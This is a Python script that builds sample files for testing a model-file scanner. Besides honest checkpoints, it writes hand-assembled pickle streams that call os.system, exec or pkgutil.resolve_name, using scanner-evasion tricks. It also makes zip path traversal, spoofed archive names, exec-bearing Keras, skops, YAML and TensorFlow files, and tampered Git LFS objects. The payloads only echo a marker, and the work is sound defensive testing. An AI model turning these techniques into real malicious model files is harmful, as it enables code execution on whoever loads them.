"""Builds the artifacts of the sample projects that are not kept in the repository.

    python tools/build_samples.py [--into FOLDER] [--list]

Runs on any Python from 3.11 with nothing installed, and writes the same bytes every time: no clock, no
compressor whose output differs between versions, no pickler. Every stream is put together opcode by opcode
from the table below, because the standard library would refuse to write most of them.

Whatever a hostile file would do when it is loaded is harmless: it prints a line. Load none of them anyway.
"""

import argparse
import hashlib
import struct
import sys
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

MARKED = "weighbridge-sample"
SAY = f"echo {MARKED}: this ran while the file was loaded"


# --- pickle, opcode by opcode -----------------------------------------------------------------------------


def proto(version: int) -> bytes:
    return b"\x80" + bytes([version])


def text(value: str) -> bytes:
    """BINUNICODE, understood from protocol 1 on."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    """SHORT_BINUNICODE, of protocol 4."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def number(value: int) -> bytes:
    """BININT1 where it fits, else BININT."""
    return b"K" + bytes([value]) if 0 <= value < 256 else b"J" + struct.pack("<i", value)


def real(value: float) -> bytes:
    return b"G" + struct.pack(">d", value)


def name(module: str, attribute: str) -> bytes:
    """GLOBAL: two lines."""
    return f"c{module}\n{attribute}\n".encode()


def put(slot: int) -> bytes:
    return b"q" + bytes([slot])


def get(slot: int) -> bytes:
    return b"h" + bytes([slot])


MARK, STOP, POP, REDUCE, OBJ, TUPLE, TUPLE1, TUPLE2 = b"(", b".", b"0", b"R", b"o", b"t", b"\x85", b"\x86"
EMPTY_DICT, EMPTY_TUPLE, SETITEMS, STACK_GLOBAL = b"}", b")", b"u", b"\x93"
FALSE, PERSISTENT_ID = b"\x89", b"Q"


def call(module: str, attribute: str, argument: str) -> bytes:
    """A call with one text: what a hostile checkpoint hides."""
    return name(module, attribute) + text(argument) + TUPLE1 + REDUCE


def ordered_dict() -> bytes:
    return name("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE


def tensor(storage: str, rows: int, columns: int) -> bytes:
    """A float32 matrix as PyTorch writes one: a storage named outside the stream, and its shape."""
    return b"".join(
        (
            name("torch._utils", "_rebuild_tensor_v2"),
            MARK,
            MARK + text("storage") + name("torch", "FloatStorage") + text(storage) + text("cpu"),
            number(rows * columns) + TUPLE + PERSISTENT_ID,
            number(0),
            number(rows) + number(columns) + TUPLE2,
            number(columns) + number(1) + TUPLE2,
            FALSE,
            ordered_dict(),
            TUPLE + REDUCE,
        )
    )


def floats(count: int) -> bytes:
    return struct.pack(f"<{count}f", *((i % 17 - 8) / 16 for i in range(count)))


# --- containers -------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Entry:
    """One stored member of a zip. ``crc`` and ``central_name`` only where they are to be lies."""

    name: str
    data: bytes
    crc: int | None = None
    central_name: str | None = None


def zip_of(*entries: Entry, align: int = 1) -> bytes:
    """A zip of stored members, dated 1980, each member's data at a multiple of ``align``.

    PyTorch aligns to 64 bytes with an extra field of the tag ``FB``, so that tensors can be mapped.
    """
    out, directory = bytearray(), bytearray()
    for entry in entries:
        crc = zlib.crc32(entry.data) if entry.crc is None else entry.crc
        plain = entry.name.encode()
        fixed = struct.pack("<5H3I", 20, 0x800, 0, 0, 0x21, crc, len(entry.data), len(entry.data))
        start = len(out)
        padding = (-(start + 30 + len(plain) + 4)) % align if align > 1 else None
        extra = b"" if padding is None else b"FB" + struct.pack("<H", padding) + b"Z" * padding
        out += b"PK\x03\x04" + fixed + struct.pack("<2H", len(plain), len(extra)) + plain + extra
        out += entry.data
        listed = (entry.central_name or entry.name).encode()
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + fixed
        directory += struct.pack("<5H2I", len(listed), 0, 0, 0, 0, 0, start) + listed
    end = struct.pack("<4H2IH", 0, 0, len(entries), len(entries), len(directory), len(out), 0)
    return bytes(out + directory) + b"PK\x05\x06" + end


def seven_zip(member: str, data: bytes) -> bytes:
    """A 7z archive of one member, copied as it is."""

    def num(value: int) -> bytes:
        return bytes([value]) if value < 128 else bytes([0x80 | value >> 8, value & 255])

    names = b"\0" + (member + "\0").encode("utf-16-le")
    packed = b"\x06" + num(0) + num(1) + b"\x09" + num(len(data)) + b"\0"
    folder = b"\x07\x0b" + num(1) + b"\0" + num(1) + b"\x01\x00" + b"\x0c" + num(len(data))
    folder += b"\x0a\x01" + struct.pack("<I", zlib.crc32(data)) + b"\0"
    files = b"\x05" + num(1) + b"\x11" + num(len(names)) + names + b"\0"
    header = b"\x01\x04" + packed + folder + b"\0" + files + b"\0"
    start = struct.pack("<2QI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + header


def zstd(data: bytes) -> bytes:
    """A zstd frame of one raw block; at most 255 bytes."""
    block = struct.pack("<I", 1 | len(data) << 3)[:3]
    return b"\x28\xb5\x2f\xfd\x20" + bytes([len(data)]) + block + data


def put_field(number: int, data: bytes) -> bytes:
    """A field of a protocol buffer that holds bytes; shorter than 16 KiB."""
    size = bytes([len(data)]) if len(data) < 128 else bytes([len(data) & 127 | 128, len(data) >> 7])
    return bytes([number << 3 | 2]) + size + data


def node(called: str, operator: str, *inputs: str, string: str = "") -> bytes:
    """A node of a TensorFlow graph; a constant holds ``string``."""
    made = put_field(1, called.encode()) + put_field(2, operator.encode())
    made += b"".join(put_field(3, each.encode()) for each in inputs)
    if string:
        tensor = b"\x08\x07" + put_field(2, b"") + put_field(8, string.encode())
        value = put_field(1, b"value") + put_field(2, put_field(8, tensor))
        kind = put_field(1, b"dtype") + put_field(2, b"\x30\x07")
        made += put_field(5, value) + put_field(5, kind)
    return made


def checkpoint(folder: str, stream: bytes, storages: tuple[bytes, ...] = ()) -> bytes:
    """What ``torch.save`` has written since 1.6: a pickle and its storages, side by side in a zip."""
    members = [Entry(f"{folder}/data.pkl", stream), Entry(f"{folder}/byteorder", b"little")]
    members += [Entry(f"{folder}/data/{i}", data) for i, data in enumerate(storages)]
    members += [
        Entry(f"{folder}/version", b"3\n"),
        Entry(f"{folder}/.data/serialization_id", b"0636067208541110720400000000000000000000"),
    ]
    return zip_of(*members, align=64)


def gzip_of(data: bytes) -> bytes:
    """A gzip stream of one stored block: the same bytes from every version of zlib."""
    block = b"\x01" + struct.pack("<2H", len(data), len(data) ^ 0xFFFF) + data
    return b"\x1f\x8b\x08" + bytes(6) + b"\xff" + block + struct.pack("<2I", zlib.crc32(data), len(data))


def safetensors(header: str, data: bytes) -> bytes:
    raw = header.encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


# --- the files --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    """One file to write, relative to the folder of the sample projects, and what it shows."""

    path: str
    data: bytes
    shows: str


def clean() -> Iterator[Sample]:
    header = (
        '{"__metadata__":{"format":"np"},'
        '"bias":{"dtype":"F32","shape":[4],"data_offsets":[128,144]},'
        '"weight":{"dtype":"F32","shape":[4,8],"data_offsets":[0,128]}}'
    )
    # Small enough to be kept in the repository; built again here so that a test can compare.
    yield Sample("clean/model.safetensors", safetensors(header, floats(36)), "honest weights, 36 numbers")


def typical() -> Iterator[Sample]:
    weights = ordered_dict() + MARK + text("encoder.weight") + tensor("0", 8, 16)
    weights += text("head.weight") + tensor("1", 2, 8) + SETITEMS
    stream = b"".join(
        (
            proto(2),
            EMPTY_DICT + put(0) + MARK,
            text("epoch") + number(3),
            text("model_state_dict") + weights,
            text("optimizer_state_dict"),
            EMPTY_DICT + MARK + text("lr") + real(5e-5) + text("step") + number(1200) + SETITEMS,
            text("loss") + real(0.4375),
            SETITEMS + STOP,
        )
    )
    data = checkpoint("epoch-3", stream, (floats(128), floats(16)))
    yield Sample("typical/checkpoints/epoch-3.pt", data, "an honest checkpoint, as torch.save writes it")


def hostile() -> Iterator[Sample]:
    for file, data, shows in (*_pickles(), *_archives(), *_others(), *_of_frameworks()):
        yield Sample(f"hostile/models/{file}", data, shows)


def _pickles() -> Iterator[tuple[str, bytes, str]]:
    acts = proto(2) + call("posix", "system", SAY) + STOP
    innocent = EMPTY_DICT + MARK + text("learning_rate") + real(0.1) + SETITEMS
    yield (
        "pytorch_model.bin",
        f"cos\nsystem\n(S'{SAY}'\ntR.".encode(),
        "the oldest protocol, in plain letters, under a suffix that says nothing",
    )
    yield (
        "broken_after.pkl",
        proto(2) + call("posix", "system", SAY) + b"\xff\xff nobody reads this far",
        "acts first, then breaks: a scanner that gives up at the error sees nothing",
    )
    yield (
        "memo.pkl",
        b"".join(
            (
                proto(4),
                short("system") + put(1) + POP,
                short("posix") + put(7) + POP,
                short("collections") + short("OrderedDict") + POP + POP,  # what a backward search finds
                get(7) + get(1) + STACK_GLOBAL,
                short(SAY) + TUPLE1 + REDUCE + STOP,
            )
        ),
        "the name of the function is put together in the memo, behind a decoy",
    )
    yield (
        "resolver.pkl",
        proto(2) + call("pkgutil", "resolve_name", "os:system") + text(SAY) + TUPLE1 + REDUCE + STOP,
        "only pkgutil is imported; it turns a text into any function",
    )
    yield (
        "popped.pkl",
        proto(2) + MARK + name("os", "system") + text(SAY) + OBJ + POP + innocent + STOP,
        "the result of the call is thrown away, an innocent dictionary is what loads",
    )
    yield (
        "instance.pkl",
        proto(0) + f"(S'print(\"{MARKED}\")'\nibuiltins\nexec\n0}}.".encode(),
        "INST, an opcode nobody has written since Python 2, calls exec",
    )
    yield (
        "unvouched.pkl",
        proto(2) + call("houseplant.watering", "restore", "balcony") + STOP,
        "a function of a package that nobody vouches for is called",
    )
    yield "renamed.safetensors", acts, "a pickle with the name of a format that cannot run code"
    yield "squeezed.joblib", gzip_of(acts), "a pickle behind gzip, as joblib writes them"
    yield "\x1b[2J\x1b[1;1Hclean.pkl", acts, "a name that clears the terminal"
    yield "weights_\u202egpj.pkl", acts, "a name that reads backwards where bidirectional text is shown"


def _archives() -> Iterator[tuple[str, bytes, str]]:
    acts = proto(2) + call("posix", "system", SAY) + STOP
    both = b"".join(
        (
            proto(2),
            EMPTY_DICT + MARK,
            text("weight") + tensor("0", 4, 4),
            text("note") + call("posix", "system", SAY),
            SETITEMS + STOP,
        )
    )
    honest = proto(2) + EMPTY_DICT + STOP
    whole = checkpoint("checkpoint", both, (floats(16),))
    yield "checkpoint.pt", whole, "a checkpoint with real tensors, and a call between them"
    yield "cut.pt", whole[: whole.index(b"PK\x01\x02") - 16], "the same, cut off before its directory"
    yield (
        "wrong_crc.pt",
        zip_of(Entry("archive/data.pkl", acts, crc=0xDEADBEEF), Entry("archive/version", b"3\n"), align=64),
        "a false checksum: Python's zipfile refuses it, other loaders do not look",
    )
    yield (
        "two_names.zip",
        zip_of(Entry("weights.pkl", acts, central_name="readme.txt")),
        "one member, two names: which one counts depends on who reads",
    )
    yield (
        "slip.zip",
        zip_of(Entry("weights.pkl", acts), Entry("../../outside.txt", f"{MARKED}\n".encode())),
        "a member that leaves the folder it is unpacked in",
    )
    inner = zip_of(Entry("deep/weights.dat", acts))
    yield "nested.zip", zip_of(Entry("inner.bin", inner)), "a pickle in a zip in a zip, no name says so"
    yield (
        "twice.zip",
        zip_of(Entry("model.pkl", honest), Entry("model.pkl", acts)),
        "two members of one name: a harmless one and another",
    )


def _others() -> Iterator[tuple[str, bytes, str]]:
    yield (
        "lying.safetensors",
        safetensors(
            '{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},'
            '"b":{"dtype":"F32","shape":[4],"data_offsets":[8,4096]}}',
            floats(8),
        ),
        "tensors that overlap and reach past the end of the file",
    )
    yield (
        "endless.safetensors",
        struct.pack("<Q", 2**63 - 1) + b'{"a":{}}',
        "a header that claims to be nine exabytes long",
    )
    yield "encoder.h5", b"\x89HDF\r\n\x1a\n" + bytes(88), "HDF5 by its first bytes, and nothing in it"
    yield "empty.pkl", b"", "no byte at all"


def _of_frameworks() -> Iterator[tuple[str, bytes, str]]:
    acts = proto(2) + call("posix", "system", SAY) + STOP
    yield "packed.pt", seven_zip("model.pkl", acts), "a 7z archive that calls itself a checkpoint"
    yield "squeezed.pkl.zst", zstd(acts), "a pickle behind zstd"
    graph = put_field(1, node("path", "Const", string="weighbridge-sample.txt"))
    graph += put_field(1, node("text", "Const", string=MARKED))
    graph += put_field(1, node("write", "WriteFile", "path", "text"))
    yield (
        "exported/saved_model.pb",
        b"\x08\x01" + put_field(2, put_field(2, graph)),
        "a graph that writes a file when it is run",
    )
    function = '{"module":"builtins","class_name":"function","config":"exec","registered_name":"exec"}'
    layers = f'[{{"module":"keras.layers","class_name":"Lambda","config":{{"function":{function}}}}}]'
    config = f'{{"module":"keras","class_name":"Sequential","config":{{"layers":{layers}}}}}'
    yield "dense.keras", zip_of(Entry("config.json", config.encode())), "a Keras model whose layer is exec"
    schema = (
        '{"__class__":"system","__module__":"posix","__loader__":"ReduceNode","__id__":1,'
        f'"reduce":{{"__class__":"str","__module__":"builtins","__loader__":"JsonNode","content":"{SAY}"}},'
        '"protocol":0}'
    )
    yield "pipeline.skops", zip_of(Entry("schema.json", schema.encode())), "a skops archive that names system"
    tagged = f'trainer: !!python/object/apply:os.system ["{SAY}"]\n'
    yield "training.yaml", tagged.encode(), "YAML whose tag calls a function where it is loaded unsafely"


def adapter() -> bytes:
    """What Git LFS is to put in the place of the pointer in the tampered sample."""
    header = '{"lora_A.weight":{"dtype":"F32","shape":[2,8],"data_offsets":[0,64]}}'
    return safetensors(header, floats(16))


ADAPTER = hashlib.sha256(adapter()).hexdigest()
FETCHED = f"clone/.git/lfs/objects/{ADAPTER[:2]}/{ADAPTER[2:4]}/{ADAPTER}"


def clone() -> Iterator[Sample]:
    """A repository in which a pointer of Git LFS still stands for an object that was fetched.

    As git writes it: one entry in the index, one blob that no program had to compress.
    """
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{ADAPTER}\nsize {len(adapter())}\n"
    blob = f"blob {len(pointer)}\0{pointer}".encode()
    name = hashlib.sha1(blob).digest()  # git's own name of it, and no protection
    path = b"models/adapter.safetensors"
    entry = struct.pack(">6I", 0, 0, 0, 0, 0, 0) + struct.pack(">4I", 0o100644, 0, 0, len(pointer))
    entry += name + struct.pack(">H", len(path)) + path
    index = b"DIRC" + struct.pack(">2I", 2, 1) + entry + bytes(8 - len(entry) % 8)
    stored = b"\x78\x01\x01" + struct.pack("<2H", len(blob), len(blob) ^ 0xFFFF) + blob
    loose = f"{name.hex()[:2]}/{name.hex()[2:]}"
    files = {
        "HEAD": b"ref: refs/heads/main\n",
        "refs/heads/.keep": b"",
        f"objects/{loose}": stored + struct.pack(">I", zlib.adler32(blob)),
        "index": index + hashlib.sha1(index).digest(),
    }
    shows = "what git itself keeps of a repository with one pointer of Git LFS"
    for inner, data in files.items():
        yield Sample(f"tampered/clone/.git/{inner}", data, shows)
    yield Sample(
        f"tampered/clone/{path.decode()}", pointer.encode(), "a pointer of Git LFS, as it was committed"
    )


def untouched() -> dict[str, bytes]:
    """The files of the tampered sample as they were when they were locked."""
    header = '{"weight":{"dtype":"F32","shape":[4,8],"data_offsets":[0,128]}}'
    return {
        "models/encoder.safetensors": safetensors(header, floats(32)),
        "models/base.safetensors": safetensors(header, floats(32)[::-1]),
        FETCHED: adapter(),
        "data/train.csv": b"text,label\ngood,1\nbad,0\n",
        "wheels/sampled-1.0-py3-none-any.whl": wheel(b"THRESHOLD = 5\n# above it a sample counts\n"),
    }


def wheel(module: bytes) -> bytes:
    """A wheel of one module."""
    metadata = b"Metadata-Version: 2.1\nName: sampled\nVersion: 1.0\n"
    return zip_of(
        Entry("sampled/__init__.py", module),
        Entry("sampled-1.0.dist-info/METADATA", metadata),
        Entry("sampled-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\n"),
    )


def tampered() -> Iterator[Sample]:
    yield from clone()
    for path, data in untouched().items():
        if path.endswith(".whl"):  # whoever changes a member writes its checksum anew
            yield Sample(
                f"tampered/{path}",
                wheel(b"THRESHOLD = 4\n# above it a sample counts\n"),
                "one bit of its module is another",
            )
        else:
            changed = data[:-3] + bytes([data[-3] ^ 1]) + data[-2:]
            yield Sample(f"tampered/{path}", changed, "one bit is not what it was when it was locked")


def samples() -> tuple[Sample, ...]:
    """Everything that is built, in the order it is written."""
    return (*clean(), *typical(), *hostile(), *tampered())


def build(into: Path) -> list[str]:
    """Writes all samples under ``into`` and returns the names that this file system refused."""
    refused = []
    for sample in samples():
        path = into / sample.path
        path.parent.mkdir(parents=True, exist_ok=True)
        try:
            path.write_bytes(sample.data)
        except OSError:  # some systems allow no control characters in names
            refused.append(sample.path)
    return refused


def main() -> int:
    """Builds, or only lists, and says what could not be written."""
    parser = argparse.ArgumentParser(description="Build the artifacts of the sample projects.")
    home = Path(__file__).resolve().parent.parent / "sample_projects"
    parser.add_argument("--into", type=Path, default=home, help="folder of the sample projects")
    parser.add_argument("--list", action="store_true", help="say what each file shows, write nothing")
    options = parser.parse_args()
    if options.list:
        for sample in samples():
            sys.stdout.write(f"{ascii(sample.path)[1:-1]}: {sample.shows}\n")
        return 0
    refused = build(options.into)
    for path in refused:
        sys.stderr.write(f"not written, this file system refuses the name: {path!a}\n")
    sys.stdout.write(f"{len(samples()) - len(refused)} files built under {options.into}\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
